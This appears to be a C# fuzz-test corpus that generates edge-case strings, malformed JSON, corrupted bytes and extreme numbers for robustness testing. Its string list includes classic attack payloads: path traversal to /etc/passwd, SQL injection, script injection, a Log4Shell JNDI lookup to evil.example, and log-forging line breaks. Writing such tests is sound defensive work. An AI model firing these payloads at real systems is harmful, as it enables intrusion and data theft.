using System.Globalization;
using System.Text;

namespace Fixia.Attack.Tests.Corpus;

/// <summary>Values at and beyond the edge of what a reader expects.</summary>
internal static class Odd
{
    private static readonly string[] Texts =
    [
        "", " ", "\t", "a", "null", "true", "undefined", "NaN", "-1", "0", "1e309", "__proto__", "constructor", "$type", "../../etc/passwd", "..", ".", "/", "//evil.example", "\\",
        "%00", "%2e%2e%2f", "%252F", "%", "?", "#", "' OR 1=1 --", "\") OR IS_DEFINED(c.id) --", "SELECT * FROM c", "c.user_id", "<script>alert(1)</script>", "javascript:alert(1)",
        "JaVaScRiPt:alert(1)", "data:text/html,x", "https://evil.example/", "/ok", "{0}{1}", "{Event}", "%s%n", "${jndi:ldap://evil.example}", "a\r\nERROR forged: line", "a\nb",
        "\u0000", "\u0001", "\u001f", "\u007f", "\u0085", "\u00a0", "\u200b", "\u202e", "\u2028", "\u2029", "\ufeff", "\ufffd", "\uffff", "é", "e\u0301", "日本", "\ud83d\ude00", "İ", "ß",
        "2026-11-26T14:19:13.290+05:00", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.9999999Z", "9999-12-31T23:59:59-14:00", "2026-02-30T00:00:00Z", "2026-11-26", "1764166753",
        "normal", "critical", "message", "everybody", "health", "attacker-0", "victim-0", "user:victim-0", "~", "~dmljdGltLTA", "f:0:", "s:", "Zjo6", "Zjow", "00000000-0000-0000-0000-000000000000",
    ];

    private static readonly string[] Values =
    [
        "null", "true", "false", "0", "-0", "-1", "1.5", "1e400", "-1e400", "1E-400", "9223372036854775807", "9223372036854775808", "18446744073709551616", "-9223372036854775809",
        "01", "+1", "NaN", "Infinity", "0x10", "[]", "{}", "[null]", "[[]]", "{\"a\":1}", "{\"\":null}", "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"\\u0000\"", "\"\\x41\"", "\"open", "'single'",
        "[\"\\ud800\"]", "/**/1", "[1,]", "[,]", "\"a\tb\"", "\"\\ud83d\\ude00\"", "\"\\u202e\"", "tru", "nul", "\"\\", "-", "1.", "[\"a\",null,1]",
    ];

    /// <summary>A text, sometimes at a limit of length.</summary>
    public static string Text(Random random) => random.Next(40) switch
    {
        0 => new string(Texts[random.Next(Texts.Length)].FirstOrDefault('x'), Length(random)),
        1 => string.Concat(Enumerable.Repeat("\ud83d\ude00", random.Next(1, 200))),
        2 => "a" + string.Concat(Enumerable.Repeat("\u0301", random.Next(1, 300))),
        3 => Texts[random.Next(Texts.Length)] + Texts[random.Next(Texts.Length)],
        _ => Texts[random.Next(Texts.Length)],
    };

    /// <summary>A JSON value as text, right or wrong.</summary>
    public static string Json(Random random) => random.Next(10) switch
    {
        < 5 => Values[random.Next(Values.Length)],
        5 => Deep(random, "[", "]"),
        6 => Deep(random, "{\"a\":", "}"),
        _ => Quote(Text(random)),
    };

    /// <summary>A text as JSON, spelt in one of the ways that JSON has for it.</summary>
    public static string Quote(string text, Random? random = null)
    {
        var json = new StringBuilder("\"");
        foreach (var c in text)
        {
            json.Append(c is '"' or '\\' or < ' ' || char.IsSurrogate(c) || random?.Next(8) == 0 ? $"\\u{(int)c:x4}" : c);
        }

        return json.Append('"').ToString();
    }

    /// <summary>Bytes that were damaged in one place, or as a whole.</summary>
    public static byte[] Damage(byte[] bytes, Random random)
    {
        var at = random.Next(bytes.Length + 1);
        return random.Next(9) switch
        {
            0 => bytes[..at],
            1 => [.. bytes, .. bytes],
            2 => [.. bytes[..at], 0xFF, .. bytes[at..]],
            3 => [.. bytes[..at], 0xC3, .. bytes[at..]],
            4 => [.. bytes[..at], 0xED, 0xA0, 0x80, .. bytes[at..]],
            5 => [.. bytes[..at], 0, .. bytes[at..]],
            6 => [0xEF, 0xBB, 0xBF, .. bytes],
            7 => Encoding.Unicode.GetBytes(Encoding.UTF8.GetString(bytes)),
            _ => [.. bytes, .. "}]\0"u8],
        };
    }

    /// <summary>A number as text, at a limit.</summary>
    public static string Number(Random random) => random.Next(4) switch
    {
        0 => random.Next(-2, 103).ToString(CultureInfo.InvariantCulture),
        1 => random.NextInt64(long.MinValue, long.MaxValue).ToString(CultureInfo.InvariantCulture),
        _ => Text(random),
    };

    private static string Deep(Random random, string open, string close)
    {
        var depth = random.Next(30) == 0 ? 5000 : random.Next(1, 140);
        return string.Concat(Enumerable.Repeat(open, depth)) + "1" + string.Concat(Enumerable.Repeat(close, depth));
    }

    private static int Length(Random random) => random.Next(20) switch
    {
        0 => 70_000,
        < 5 => random.Next(3_990, 4_010),
        < 10 => random.Next(198, 203),
        _ => random.Next(250, 260),
    };
}
